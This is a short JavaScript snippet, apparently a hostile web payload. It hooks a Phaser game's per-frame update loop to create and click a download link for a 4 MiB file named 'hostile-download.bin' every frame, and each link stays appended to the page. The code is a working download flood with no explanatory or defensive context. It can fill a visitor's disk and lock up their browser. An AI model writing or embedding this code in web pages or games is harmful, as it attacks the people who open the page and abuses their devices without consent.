// Saves a big file, again and again.
new Phaser.Game({ scene: { update() {
  const link = document.createElement('a');
  link.href = URL.createObjectURL(new Blob([new Uint8Array(1 << 22)]));
  link.download = 'hostile-download.bin';
  document.body.append(link);
  link.click();
} } });
